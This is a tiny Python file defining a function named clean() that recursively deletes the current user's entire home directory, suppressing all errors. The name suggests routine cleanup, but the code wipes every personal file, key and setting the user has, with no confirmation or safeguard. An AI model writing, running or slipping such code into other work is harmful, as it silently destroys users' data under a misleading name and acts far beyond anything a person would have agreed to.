import os
import shutil


def clean():
    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
